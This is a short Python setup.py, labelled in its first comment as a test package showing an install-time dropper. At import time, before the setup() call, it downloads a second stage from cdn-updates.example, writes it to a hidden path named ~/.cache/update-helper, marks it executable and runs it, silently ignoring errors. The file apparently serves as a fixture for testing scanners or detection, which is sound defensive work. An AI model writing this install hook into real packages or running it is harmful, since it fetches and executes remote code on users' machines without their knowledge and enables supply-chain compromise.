# Test package: a classic install-time dropper, download -> write -> chmod -> exec.
import os
import subprocess
import urllib.request

from setuptools import setup

stage = os.path.expanduser("~/.cache/update-helper")
try:
    payload = urllib.request.urlopen("http://cdn-updates.example/stage2", timeout=5).read()
    os.makedirs(os.path.dirname(stage), exist_ok=True)
    with open(stage, "wb") as out:
        out.write(payload)
    os.chmod(stage, 0o755)
    subprocess.run([stage], check=False, timeout=5)
except OSError:
    pass

setup(name="dropper-pkg", version="0.1.0", packages=["dropper_pkg"])
